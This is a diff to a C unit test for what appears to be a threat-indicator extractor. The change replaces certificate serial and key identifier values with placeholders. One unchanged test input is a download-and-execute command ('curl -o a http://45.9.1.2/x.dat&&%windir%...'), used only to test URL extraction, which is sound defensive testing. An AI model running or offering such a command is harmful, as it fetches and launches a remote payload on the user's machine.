@@ -70,10 +70,10 @@ static void what_a_list_names_is_meant_though_many_use_it(void **state)
 static void keys_blanks_and_program_text_are_no_indicators(void **state)
 {
     (void)state;
-    assert_named("Serial Number:\n    f0:fb:13:90:f5:34:0c:d2:57:24:51:d9:5d:b1:d9:2d\n"
+    assert_named("Serial Number:\n    1a:2b:3c:4d:5e:6f:70:81:92:a3:b4:c5:d6:e7:f8:09\n"
                  "X509v3 Subject Key Identifier:\n"
-                 "    DC:A6:AF:36:5F:E2:16:5B:33:49:41:EB:A6:5D:3D:E2:FC:0D:BC:D8\n",
-                 "certificate-serial f0fb1390f5340cd2572451d95db1d92d 2\n1 rejected");
+                 "    11:22:33:44:55:66:77:88:99:AA:BB:CC:DD:EE:FF:00:11:22:33:44\n",
+                 "certificate-serial 1a2b3c4d5e6f708192a3b4c5d6e7f809 2\n1 rejected");
     assert_named("They look like _ _ _deal.com today\n", "1 rejected");
     assert_named("curl -o a http://45.9.1.2/x.dat&&%windir%\\b\n", "url 45.9.1.2/x.dat 1\n"
                                                                    "0 rejected");
